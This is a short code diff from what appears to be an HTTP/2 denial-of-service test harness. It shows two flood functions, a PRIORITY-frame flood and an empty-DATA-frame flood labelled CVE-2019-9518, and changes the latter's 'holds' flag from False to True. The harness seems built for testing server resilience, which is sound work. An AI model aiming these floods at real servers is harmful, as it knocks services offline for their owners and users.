@@ -97,7 +97,7 @@ def priority_flood(target: Target) -> None:
     flood(target, h2.frame(h2.PRIORITY, 0, 1, bytes(5)))
 
 
-@attack("empty DATA frames without end (CVE-2019-9518)", holds=False, peak_mib=256)
+@attack("empty DATA frames without end (CVE-2019-9518)", holds=True, peak_mib=256)
 def empty_data_flood(target: Target) -> None:
     flood(target, h2.frame(h2.DATA, 0, 1), call=True)
 
